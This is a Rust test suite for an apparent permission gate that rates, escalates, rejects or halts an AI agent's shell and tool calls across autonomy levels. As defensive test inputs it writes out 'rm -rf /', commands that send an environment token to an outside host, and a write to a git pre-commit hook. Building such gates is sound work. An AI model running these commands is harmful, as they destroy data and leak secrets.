//! The decision tables, row by row and rung by rung, on the pure decision.
//!
//! Where the design differs from the reference tables on purpose, the row says so.

use crate::desk::{Came, Desk};
use crate::harness::{all_safe, declares, exact, glob, mcp, mcp_entry, no, registered, shell, tool, tool_entry, trusting, verdict, yes};
use haltgate::gate::{
    Action, Call, FailureCause, FloorKind, Negotiation, Outcome, Rating, RejectScope, Rung, Scope, ShellCall, Stage,
};
use serde_json::{Value, json};

type Cell = (Action, Stage);

/// One row: what the policy and the rater say, and what each rung makes of it, in the order manual, write, assisted, auto, bypass.
struct Row {
    name: &'static str,
    approvals: Value,
    command: &'static str,
    rating: Result<Outcome, FailureCause>,
    cells: [Cell; 5],
    ratings: [usize; 5],
}

const NEVER: [usize; 5] = [0; 5];
const RATED: [usize; 5] = [0, 0, 1, 1, 0];

fn everywhere(cell: Cell) -> [Cell; 5] {
    [cell; 5]
}

/// `manual` and `write` ask without a rating, and `bypass` approves.
fn between(assisted: Cell, auto: Cell) -> [Cell; 5] {
    let human = (Action::Escalate, Stage::UnratedRung);
    [human, human, assisted, auto, (Action::Approve, Stage::Bypass)]
}

fn below_bypass(cell: Cell) -> [Cell; 5] {
    [cell, cell, cell, cell, (Action::Approve, Stage::Bypass)]
}

fn rated_entry(command: &str, rate: bool) -> Value {
    let mut entry = exact(command);
    entry["rate"] = json!(rate);
    entry
}

fn shell_rows() -> Vec<Row> {
    use Action::{Approve, Escalate, Halt, Reject};
    use Stage::{AllowList, AllowTripwire, DenyList, EscalateEntry, HardlineFloor, Rater};
    let all = || [exact("make")];
    let row = |name, approvals, command, rating, cells, ratings| Row { name, approvals, command, rating, cells, ratings };
    let allowed = (Approve, AllowList);
    let tripwire = |action| {
        [allowed, allowed, (action, AllowTripwire), (action, AllowTripwire), (Approve, Stage::Bypass)]
    };
    let wired = json!({ "allow": [rated_entry("make", true)] });
    vec![
        row("deny", json!({ "deny": all(), "escalate": all(), "allow": all() }), "make", Ok(Outcome::Attack), everywhere((Reject, DenyList)), NEVER),
        row("deny in a segment", json!({ "deny": all() }), "ls && make", Ok(Outcome::Attack), everywhere((Reject, DenyList)), NEVER),
        // The reference leaves the floor to the executor at bypass; here it is the last line and holds there too.
        row("hardline", json!({ "allow": [glob("rm *")], "escalate": [glob("rm *")] }), "rm -rf /", Ok(Outcome::Safe), everywhere((Reject, HardlineFloor)), NEVER),
        row("escalate", json!({ "escalate": all(), "allow": all() }), "make", Ok(Outcome::Safe), below_bypass((Escalate, EscalateEntry)), NEVER),
        row("escalate in a segment", json!({ "escalate": all() }), "ls; make", Ok(Outcome::Safe), below_bypass((Escalate, EscalateEntry)), NEVER),
        row("allow, rate false", json!({ "allow": [rated_entry("make", false)] }), "make", Ok(Outcome::Attack), below_bypass(allowed), NEVER),
        row("allow exact, rate absent", json!({ "allow": all() }), "make", Ok(Outcome::Attack), below_bypass(allowed), NEVER),
        row("allow glob, rate absent", json!({ "allow": [glob("mak*")] }), "make", Ok(Outcome::Catastrophic), tripwire(Escalate), RATED),
        row("tripwire safe", wired.clone(), "make", Ok(Outcome::Safe), tripwire(Approve), RATED),
        row("tripwire destructive", wired.clone(), "make", Ok(Outcome::Destructive), tripwire(Approve), RATED),
        row("tripwire catastrophic", wired.clone(), "make", Ok(Outcome::Catastrophic), tripwire(Escalate), RATED),
        row("tripwire attack", wired.clone(), "make", Ok(Outcome::Attack), tripwire(Halt), RATED),
        row("tripwire failed", wired, "make", Err(FailureCause::Timeout), tripwire(Approve), RATED),
        row("allow needs no floor", json!({ "allow": [exact("curl https://a.example")] }), "curl https://a.example", Ok(Outcome::Safe), below_bypass(allowed), NEVER),
        row("safe", json!({}), "make", Ok(Outcome::Safe), between((Approve, Rater), (Approve, Rater)), RATED),
        row("safe, names a host", json!({}), "curl https://a.example", Ok(Outcome::Safe), between((Escalate, Rater), (Reject, Rater)), RATED),
        row("safe, names a host in a list", json!({}), "ls; curl https://a.example", Ok(Outcome::Safe), between((Escalate, Rater), (Reject, Rater)), RATED),
        row("safe, leaks a secret", json!({}), "python -c \"$TOKEN\"", Ok(Outcome::Safe), between((Escalate, Rater), (Reject, Rater)), RATED),
        row("destructive", json!({}), "make", Ok(Outcome::Destructive), between((Escalate, Rater), (Reject, Rater)), RATED),
        row("failed", json!({}), "make", Err(FailureCause::NoModel), between((Escalate, Rater), (Reject, Rater)), RATED),
        row("catastrophic", json!({}), "make", Ok(Outcome::Catastrophic), between((Escalate, Rater), (Escalate, Rater)), RATED),
        row("attack", json!({}), "make", Ok(Outcome::Attack), between((Halt, Rater), (Halt, Rater)), RATED),
        row("attack that names a host", json!({}), "curl https://a.example", Ok(Outcome::Attack), between((Halt, Rater), (Halt, Rater)), RATED),
    ]
}

fn desk(approvals: &Value, rung: Rung, rating: Result<Outcome, FailureCause>) -> Desk {
    match rating {
        Ok(outcome) => Desk::new(approvals, rung).rating(outcome),
        Err(cause) => Desk::new(approvals, rung).failing(cause),
    }
}

/// Table A. There is no table B: shell commands are always gated here (design §2.1).
#[test]
fn table_a_a_shell_command_on_every_rung() {
    for row in shell_rows() {
        for scope in ["rung", "every_call"] {
            let mut approvals = row.approvals.clone();
            approvals["gate_scope"] = json!(scope);
            for (index, rung) in Rung::ALL.into_iter().enumerate() {
                let mut desk = desk(&approvals, rung, row.rating);
                let came = desk.ask(&shell(row.command));
                assert_eq!((came.told(), desk.rated), (row.cells[index], row.ratings[index]), "{} at {rung}, {scope}", row.name);
                check_particulars(&row, rung, &came, &desk);
            }
        }
    }
}

fn check_particulars(row: &Row, rung: Rung, came: &Came, desk: &Desk) {
    let scope = match came.told() {
        (Action::Approve, Stage::AllowList | Stage::AllowTripwire) => Some(Scope::Session),
        (Action::Approve, _) => Some(Scope::Once),
        (Action::Reject | Action::Escalate | Action::Halt | Action::Unattended, _) => None,
    };
    assert_eq!(came.scope(), scope, "{} at {rung}", row.name);
    let rounds = usize::from(came.told() == (Action::Reject, Stage::Rater));
    assert_eq!(desk.state.negotiation.rounds().len(), rounds, "{} at {rung}: only a rejection is a round", row.name);
    if let Some(escalation) = &came.escalation {
        let sticky = came.outcome() != Some(Outcome::Catastrophic) && !row.command.contains([';', '&', '$']);
        assert_eq!(escalation.grant.is_some(), sticky, "{} at {rung}: what a grant may be", row.name);
        assert!(escalation.denial.is_some(), "{} at {rung}: a refusal may always be remembered", row.name);
        assert_eq!(escalation.escalated_by.is_some(), came.decision.stage == Stage::EscalateEntry);
        let rated = matches!(came.decision.stage, Stage::Rater | Stage::AllowTripwire);
        assert_eq!(came.outcome().is_some(), rated, "{} at {rung}: a verdict where one was given", row.name);
    }
    // Nothing of a decision is remembered but rounds and halted runs.
    assert!(desk.state.grants.is_empty() && desk.persisted.is_empty());
    assert_eq!(desk.state.halted_runs.len(), usize::from(came.decision.action == Action::Halt), "{} at {rung}", row.name);
}

fn tool_calls() -> [(&'static str, Call); 3] {
    [
        ("read", tool("read_file", json!({ "path": "a" }))),
        ("write", tool("write_file", json!({ "path": "a" }))),
        ("none", mcp("jira", "get", json!({}))),
    ]
}

/// Table C with `gate_scope: rung`: what the rung does not gate passes before any list is read.
#[test]
fn table_c_any_other_tool_on_every_rung() {
    let lists = json!([tool_entry("read_file"), tool_entry("write_file"), mcp_entry("jira", "get")]);
    let gated = |class: &str, rung: Rung| match rung {
        Rung::Manual => class != "read",
        Rung::Write => class == "none",
        Rung::Assisted | Rung::Auto | Rung::Bypass => false,
    };
    let human = (Action::Escalate, Stage::UnratedRung);
    let columns = [
        (json!({ "deny": lists, "escalate": lists, "allow": lists }), (Action::Reject, Stage::DenyList)),
        (json!({ "escalate": lists, "allow": lists }), (Action::Escalate, Stage::EscalateEntry)),
        (json!({ "allow": lists }), (Action::Approve, Stage::AllowList)),
        (json!({}), human),
    ];
    for (approvals, expected) in &columns {
        for (class, call) in tool_calls() {
            for rung in Rung::ALL {
                let mut desk = Desk::new(approvals, rung).rating(Outcome::Attack);
                let came = desk.ask(&call);
                let cell = if gated(class, rung) { *expected } else { (Action::Approve, Stage::NotGated) };
                assert_eq!((came.told(), desk.rated), (cell, 0), "{class} at {rung}, {approvals}");
                let scope = match cell {
                    (Action::Approve, Stage::NotGated) => Some(Scope::Once),
                    (Action::Approve, _) => Some(Scope::Session),
                    (_, _) => None,
                };
                assert_eq!((came.scope(), came.outcome()), (scope, None), "{class} at {rung}");
            }
        }
    }
}

/// Every tool of the read and write classes, and what only looks like one.
#[test]
fn classes_are_an_exact_list_of_names() {
    let reads = [
        "read_file", "read_multiple_files", "gth_read_binary", "list_directory", "list_directory_with_sizes", "directory_tree",
        "search_files", "get_file_info", "list_allowed_directories", "ls", "glob", "grep", "gth_grep",
    ];
    let writes = ["write_file", "edit_file", "create_directory", "move_file", "delete_file", "delete_directory"];
    let none = [
        "run_tests", "run_lint", "run_build", "run_single_test", "gth_web_fetch", "gth_checklist", "gth_status_update",
        "show_a2ui_surface", "execute", "constructor", "Read_file", "read_file ", "toString", "mcp__jira__read_file",
    ];
    for (names, at_manual, at_write) in [(&reads[..], true, true), (&writes[..], false, true), (&none[..], false, false)] {
        for name in names {
            for (rung, free) in [(Rung::Manual, at_manual), (Rung::Write, at_write)] {
                let came = Desk::new(&json!({}), rung).ask(&tool(name, json!({})));
                assert_eq!(came.decision.action == Action::Approve, free, "{name} at {rung}");
            }
        }
    }
}

/// Table D: a call to the shell tool that carries no command. It is gated at every rung, and `bypass` asks about it.
#[test]
fn table_d_the_shell_tool_without_a_command_on_every_rung() {
    let entry = json!([tool_entry("run_shell_command")]);
    use Action::{Approve, Escalate, Reject};
    use Stage::{AllowList, DenyList, EscalateEntry, ToolOpenWorldFloor, UnratedRung};
    let human = (Escalate, UnratedRung);
    let floored = (Escalate, ToolOpenWorldFloor);
    let columns = [
        (json!({ "deny": entry, "allow": entry }), [(Reject, DenyList); 5]),
        (json!({ "escalate": entry, "allow": entry }), [(Escalate, EscalateEntry), (Escalate, EscalateEntry), (Escalate, EscalateEntry), (Escalate, EscalateEntry), human]),
        (json!({ "allow": entry }), [(Approve, AllowList), (Approve, AllowList), (Approve, AllowList), (Approve, AllowList), human]),
        (json!({}), [human, human, floored, floored, human]),
    ];
    for call in [tool("run_shell_command", json!({})), registered("run_shell_command", json!({ "command": ["ls"] }))] {
        for (approvals, cells) in &columns {
            for (index, rung) in Rung::ALL.into_iter().enumerate() {
                let mut desk = Desk::new(approvals, rung);
                let came = desk.ask(&call);
                assert_eq!((came.told(), desk.rated), (cells[index], 0), "{approvals} at {rung}");
                if let Some(escalation) = came.escalation {
                    assert_eq!(escalation.grant, None, "never a grant");
                    assert_eq!(escalation.denial.unwrap().summary, "tool run_shell_command");
                }
            }
        }
    }
    let mut unattended = Desk::new(&json!({}), Rung::Bypass);
    unattended.state.interactive = false;
    assert_eq!(unattended.ask(&tool("run_shell_command", json!({}))).decision.action, Action::Unattended);
}

/// Design §2.3: with `every_call` each call is judged, and what nobody objects to passes when it is known to be harmless.
#[test]
fn every_call_is_judged_at_every_rung() {
    use Action::{Approve, Escalate, Reject};
    use Stage::{AllowList, Bypass, DenyList, EscalateEntry, NotGated, Rater, ToolOpenWorldFloor, UnratedRung};
    let free = (Approve, NotGated);
    let human = (Escalate, UnratedRung);
    let floored = (Escalate, ToolOpenWorldFloor);
    let bypass = (Approve, Bypass);
    let rated = (Approve, Rater);
    let ask = (Escalate, Rater);
    let read = || tool("read_file", json!({ "path": "a" }));
    let write = || tool("write_file", json!({ "path": ".git/hooks/pre-commit" }));
    let rows: [(&str, Value, Call, Outcome, [Cell; 5]); 14] = [
        ("read", json!({}), read(), Outcome::Attack, [free, free, free, free, bypass]),
        ("read denied", json!({ "deny": [tool_entry("read_file")] }), read(), Outcome::Safe, [(Reject, DenyList); 5]),
        ("read escalated", json!({ "escalate": [tool_entry("read_file")] }), read(), Outcome::Safe, below_bypass((Escalate, EscalateEntry))),
        ("write, safe", json!({}), write(), Outcome::Safe, [human, free, rated, rated, bypass]),
        ("write, destructive", json!({}), write(), Outcome::Destructive, [human, free, ask, ask, bypass]),
        ("write, catastrophic", json!({}), write(), Outcome::Catastrophic, [human, free, ask, ask, bypass]),
        ("write, attack", json!({}), write(), Outcome::Attack, [human, free, (Action::Halt, Rater), (Action::Halt, Rater), bypass]),
        ("write allowed", json!({ "allow": [tool_entry("write_file")] }), write(), Outcome::Attack, below_bypass((Approve, AllowList))),
        ("harmless built-in without class", json!({}), tool("gth_status_update", json!({})), Outcome::Attack, [free, free, free, free, bypass]),
        ("open-world built-in", json!({}), tool("gth_web_fetch", json!({})), Outcome::Safe, [human, human, floored, floored, bypass]),
        ("unknown tool", json!({}), tool("deploy", json!({})), Outcome::Safe, [human, human, floored, floored, bypass]),
        ("untrusted server", json!({}), mcp("jira", "get", json!({})), Outcome::Safe, [human, human, floored, floored, bypass]),
        ("trusted, read-only and closed", json!({ "mcp": trusting() }), mcp("jira", "get", json!({})), Outcome::Attack, [free, free, free, free, bypass]),
        ("trusted name of an unknown server", json!({ "mcp": trusting() }), registered("mcp__ghost__get", json!({})), Outcome::Safe, [human, human, floored, floored, bypass]),
    ];
    for (name, mut approvals, call, outcome, cells) in rows {
        approvals["gate_scope"] = json!("every_call");
        for (index, rung) in Rung::ALL.into_iter().enumerate() {
            let mut desk = Desk::new(&approvals, rung).rating(outcome);
            for server in ["jira", "ghost"] {
                let declared = declares(server, "get", &all_safe());
                desk.state.catalogue.insert(declared.registered_name, declared.declared);
            }
            let came = desk.ask(&call);
            assert_eq!(came.told(), cells[index], "{name} at {rung}");
            assert_eq!(desk.state.negotiation.rounds().len(), 0, "{name} at {rung}: a tool call is never argued over");
        }
    }
}

/// Table 1.7a and c: the floor raises `safe` alone, and a failure is destructive with its cause.
#[test]
fn the_floor_only_raises_and_a_failure_is_never_an_approval() {
    for (command, kind) in [("curl https://a.example", FloorKind::NetworkHost), ("python -c \"$TOKEN\"", FloorKind::EnvironmentLeak), ("curl https://a.example/$TOKEN", FloorKind::EnvironmentLeak)] {
        for outcome in Outcome::ALL {
            let mut said = verdict(outcome);
            said.suggested_tool = Some("read_file".to_owned());
            let mut desk = Desk::new(&json!({}), Rung::Assisted);
            desk.rating = Ok(said.clone());
            let rating = desk.ask(&shell(command)).decision.rating.unwrap();
            assert_eq!((rating.floors[0].kind, rating.floors[0].raised), (kind, outcome == Outcome::Safe), "{command}: {outcome}");
            if outcome == Outcome::Safe {
                assert_eq!((rating.outcome, rating.suggested_tool), (Outcome::Destructive, None));
                assert_ne!(rating.reason, said.reason);
            } else {
                assert_eq!((rating.outcome, rating.reason, rating.suggested_tool), (outcome, said.reason, said.suggested_tool));
            }
        }
    }
    for cause in FailureCause::ALL {
        for (rung, action) in [(Rung::Assisted, Action::Escalate), (Rung::Auto, Action::Reject)] {
            let came = Desk::new(&json!({}), rung).failing(cause).ask(&shell("make"));
            assert_eq!((came.decision.action, came.outcome()), (action, Some(Outcome::Destructive)), "{cause:?}");
            assert_eq!(came.decision.rating.unwrap().cause, Some(cause));
        }
    }
}

fn rejections(desk: &mut Desk, count: usize) -> Vec<Action> {
    (0..count).map(|_| desk.ask(&shell("make")).decision.action).collect()
}

fn auto() -> Desk {
    Desk::new(&json!({ "deny": [exact("no")], "escalate": [exact("ask")], "allow": [exact("yes"), glob("trip *")] }), Rung::Auto).rating(Outcome::Destructive)
}

/// Table 1.8: what each event does to the transcript, the count in a row, the count since a human, and the user's messages.
#[test]
fn table_1_8_the_bookkeeping_of_the_negotiation() {
    type Event = fn(&mut Desk);
    let cases: [(&str, Event, (usize, u32, u32)); 14] = [
        ("a rejection", |desk| { rejections(desk, 1); }, (2, 2, 2)),
        ("an approval by an allow entry", |desk| { desk.ask(&shell("yes")); }, (0, 0, 1)),
        ("an approval by a tripwire", |desk| { desk.ask(&shell("trip x")); }, (0, 0, 1)),
        ("an approval of what is not gated", |desk| { desk.ask(&tool("read_file", json!({}))); }, (0, 0, 1)),
        ("an approval by a rating", |desk| { desk.rating = Ok(verdict(Outcome::Safe)); desk.ask(&shell("ls")); }, (0, 0, 1)),
        ("a deny entry", |desk| { desk.ask(&shell("no")); }, (1, 1, 1)),
        ("the hardline floor", |desk| { desk.ask(&shell("rm -rf /")); }, (1, 1, 1)),
        ("a prompt", |desk| { desk.ask(&shell("ask")); }, (0, 0, 0)),
        ("nobody to ask", |desk| { desk.state.interactive = false; desk.ask(&shell("ask")); }, (0, 0, 0)),
        ("the user speaking", |desk| desk.state.negotiation.user_said("go on"), (0, 0, 0)),
        ("an attack by a rating", |desk| { desk.rating = Ok(verdict(Outcome::Attack)); desk.ask(&shell("x")); }, (0, 0, 0)),
        ("an attack by a tripwire", |desk| { desk.rating = Ok(verdict(Outcome::Attack)); desk.ask(&shell("trip x")); }, (1, 1, 1)),
        ("a new thread", |desk| desk.state.negotiation.reset(), (0, 0, 0)),
        // Design §2.11: the transcript belongs to `auto`; the count since a human stands, as after an approval.
        ("leaving auto", |desk| desk.state.set_rung(Rung::Assisted), (0, 0, 1)),
    ];
    for (name, event, expected) in cases {
        let mut desk = auto();
        rejections(&mut desk, 1);
        event(&mut desk);
        let negotiation = &desk.state.negotiation;
        let budget = negotiation.budget();
        assert_eq!((negotiation.rounds().len(), budget.consecutive, budget.since_human), expected, "after {name}");
    }
}

#[test]
fn the_third_rejection_in_a_row_reaches_the_human_with_the_whole_exchange() {
    let mut desk = auto();
    assert_eq!(rejections(&mut desk, 2), [Action::Reject; 2]);
    let came = desk.ask(&shell("make"));
    let escalation = came.escalation.unwrap();
    assert_eq!((escalation.rounds.len(), escalation.attempts, escalation.budget.consecutive), (3, 3, 2));
    assert_eq!(escalation.rounds.iter().map(|round| round.number).collect::<Vec<_>>(), [1, 2, 3]);
    assert_eq!(desk.state.negotiation, Negotiation::default(), "a human was reached, whatever they say");
}

#[test]
fn alternating_rejections_and_approvals_reach_the_human_at_the_ninth_rejection() {
    let mut desk = auto();
    for rejection in 1..=9 {
        let came = desk.ask(&shell("make"));
        let expected = if rejection == 9 { Action::Escalate } else { Action::Reject };
        assert_eq!(came.decision.action, expected, "rejection {rejection}");
        if let Some(escalation) = came.escalation {
            assert_eq!((escalation.rounds.len(), escalation.attempts), (1, 9), "attempts are never fewer than the rounds");
        }
        desk.ask(&shell("yes"));
    }
}

#[test]
fn catastrophic_reaches_the_human_at_once_and_is_no_round() {
    let mut desk = auto();
    rejections(&mut desk, 1);
    desk.rating = Ok(verdict(Outcome::Catastrophic));
    let escalation = desk.ask(&shell("make")).escalation.unwrap();
    assert_eq!((escalation.rounds.len(), escalation.grant, escalation.denial.is_some()), (1, None, true));
}

/// Round one sees the command alone; the justification is kept in the round whatever the round's number.
#[test]
fn a_justification_is_told_from_the_second_round_on_and_kept_from_the_first() {
    let mut desk = auto();
    let call = |text: &str| Call::Shell(ShellCall { justification: Some(text.to_owned()), ..ShellCall::new("make") });
    desk.ask(&call("first reason"));
    assert_eq!(desk.state.negotiation.rounds()[0].justification.as_deref(), Some("first reason"));
    assert_eq!(desk.state.negotiation.context(Some("second")).unwrap().justification.as_deref(), Some("second"));
    desk.ask(&call("   "));
    assert_eq!(desk.state.negotiation.rounds()[1].justification, None, "a blank one says nothing");
    assert_eq!(Negotiation::default().context(Some("early")), None);
}

/// Table 1.9b.
#[test]
fn table_1_9b_what_each_answer_stores_and_returns() {
    let mut bounded = yes(Scope::Session);
    bounded.comment = Some("because".to_owned());
    let rows = [
        ("approve once", yes(Scope::Once), "make", (Action::Approve, Some(Scope::Once)), (0, 0, 0)),
        ("approve for the session", yes(Scope::Session), "make", (Action::Approve, Some(Scope::Session)), (1, 0, 0)),
        // The reference keeps an `always` in both stores; here the project's is the truth and every session reads it at once.
        ("approve always", yes(Scope::Always), "make", (Action::Approve, Some(Scope::Always)), (0, 1, 0)),
        // Design §2.8: the scope that is reported is the one that was stored. (The live engine refuses such an answer outright.)
        ("approve always, nothing on offer", yes(Scope::Always), "make; ls", (Action::Approve, Some(Scope::Once)), (0, 0, 0)),
        ("reject once", no(RejectScope::Once), "make", (Action::Reject, None), (0, 0, 0)),
        ("reject for the session", no(RejectScope::Session), "make; ls", (Action::Reject, None), (0, 0, 1)),
    ];
    for (name, answer, command, told, (session, always, denials)) in rows {
        let mut desk = Desk::new(&json!({}), Rung::Manual);
        let escalation = desk.ask(&shell(command)).escalation.unwrap();
        let came = desk.answer(&escalation, &answer);
        assert_eq!((came.decision.action, came.scope()), told, "{name}");
        assert_eq!((desk.state.grants.len(), desk.persisted.len(), desk.state.denials.in_order().len()), (session, always, denials), "{name}");
        assert_eq!(came.decision.stage, escalation.stage, "{name}: the stage stays what asked");
    }
    let mut desk = Desk::new(&json!({}), Rung::Manual);
    let ghost = desk.ask(&registered("mcp__ghost__get", json!({}))).escalation.unwrap();
    let came = desk.answer(&ghost, &no(RejectScope::Session));
    assert_eq!((came.decision.action, desk.state.denials.in_order().len()), (Action::Reject, 0), "no entry on offer");
}

#[test]
fn a_refusal_tells_the_model_who_refused_why_and_what_it_may_do() {
    let mut desk = Desk::new(&json!({}), Rung::Assisted).rating(Outcome::Destructive);
    let escalation = desk.ask(&shell("make")).escalation.unwrap();
    let answer = haltgate::gate::HumanAnswer { comment: Some("not on a Friday".to_owned()), ..no(RejectScope::Once) };
    let message = desk.answer(&escalation, &answer).decision.message;
    for part in ["The user refused", "not on a Friday", "It was called destructive.", "justification", "different command", "ask the user"] {
        assert!(message.contains(part), "{part}: {message}");
    }
    let mut desk = auto();
    let message = desk.ask(&shell("make")).decision.message;
    assert!(message.contains("rater refused") && message.contains("It was called destructive."), "{message}");
}

/// Tables 2.1 and 2.2: what a sticky yes and a sticky no would store.
#[test]
fn tables_2_1_and_2_2_what_is_on_offer() {
    let one = json!({ "url": "https://A.example:8443/x" });
    let two = json!({ "a": "https://a.example", "b": "https://b.example" });
    let rows: Vec<(&str, Rung, Outcome, Call, Option<&str>, Option<&str>)> = vec![
        ("simple command", Rung::Manual, Outcome::Safe, shell(" npm   'test' "), Some("npm test"), Some("npm test")),
        ("command with a quoted word", Rung::Manual, Outcome::Safe, shell("echo \"a;b\""), Some("echo 'a;b'"), Some("echo 'a;b'")),
        ("composed command", Rung::Manual, Outcome::Safe, shell("a && b"), None, Some("a && b")),
        ("expanded command", Rung::Manual, Outcome::Safe, shell("a $HOME"), None, Some("a $HOME")),
        ("destructive", Rung::Assisted, Outcome::Destructive, shell("make"), Some("make"), Some("make")),
        ("catastrophic", Rung::Assisted, Outcome::Catastrophic, shell("make"), None, Some("make")),
        ("tool", Rung::Manual, Outcome::Safe, tool("fetch", json!({})), Some("tool fetch"), Some("tool fetch")),
        ("tool, one host", Rung::Manual, Outcome::Safe, tool("fetch", one.clone()), Some("tool fetch (host a.example)"), Some("tool fetch (host a.example)")),
        ("tool, two hosts", Rung::Manual, Outcome::Safe, tool("fetch", two.clone()), None, Some("tool fetch")),
        ("server's tool", Rung::Manual, Outcome::Safe, mcp("jira", "get", json!({})), Some("mcpTool jira/get"), Some("mcpTool jira/get")),
        ("server's tool, one host", Rung::Manual, Outcome::Safe, registered("mcp__jira__get", one), Some("mcpTool jira/get (host a.example)"), Some("mcpTool jira/get (host a.example)")),
        ("server's tool, two hosts", Rung::Manual, Outcome::Safe, mcp("jira", "get", two), None, Some("mcpTool jira/get")),
        ("unresolved server", Rung::Manual, Outcome::Safe, registered("mcp__ghost__get", json!({})), None, None),
        ("shell tool without a command", Rung::Manual, Outcome::Safe, tool("run_shell_command", json!({})), None, Some("tool run_shell_command")),
        ("the same at bypass", Rung::Bypass, Outcome::Safe, tool("run_shell_command", json!({})), None, Some("tool run_shell_command")),
    ];
    for (name, rung, outcome, call, grant, denial) in rows {
        let mut desk = Desk::new(&json!({}), rung).rating(outcome);
        let escalation = desk.ask(&call).escalation.unwrap();
        let summary = |offer: &Option<haltgate::gate::Offer>| offer.as_ref().map(|offer| offer.summary.clone());
        assert_eq!((summary(&escalation.grant).as_deref(), summary(&escalation.denial).as_deref()), (grant, denial), "{name}");
        if let Some(offer) = &escalation.grant {
            assert_eq!(offer.annotations.is_some(), escalation.kind != "shell", "{name}: a snapshot for tools alone");
            let parsed = crate::harness::entry(&serde_json::from_str(&offer.preview).unwrap());
            assert_eq!(parsed, offer.entry, "{name}");
        }
        assert!(escalation.denial.is_none_or(|offer| offer.annotations.is_none()), "{name}");
    }
}

#[test]
fn a_rating_of_an_escalated_call_is_what_the_human_is_shown() {
    let came = Desk::new(&json!({}), Rung::Assisted).failing(FailureCause::Unparseable).ask(&shell("make"));
    let shown = came.escalation.unwrap().rating.unwrap();
    assert_eq!(shown, Rating::from_result(Err(FailureCause::Unparseable)));
    let mut watched = Desk::new(&json!({}), Rung::Assisted).rating(Outcome::Attack);
    watched.watched = true;
    assert!(watched.ask(&shell("make")).watched);
}
